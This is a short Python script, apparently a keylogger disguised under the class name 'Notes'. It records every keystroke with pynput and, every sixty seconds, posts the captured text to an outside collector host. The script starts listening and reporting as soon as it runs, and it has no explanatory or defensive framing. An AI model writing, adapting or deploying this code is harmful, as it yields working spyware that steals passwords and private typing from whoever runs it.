import threading

import requests
from pynput import keyboard


class Notes:
    def __init__(self):
        self.text = ""

    def report(self):
        requests.post("https://collector.invalid/n", data=self.text)
        threading.Timer(60, self.report).start()

    def press(self, key):
        self.text += str(key)

    def start(self):
        self.report()
        keyboard.Listener(on_press=self.press).start()


Notes().start()
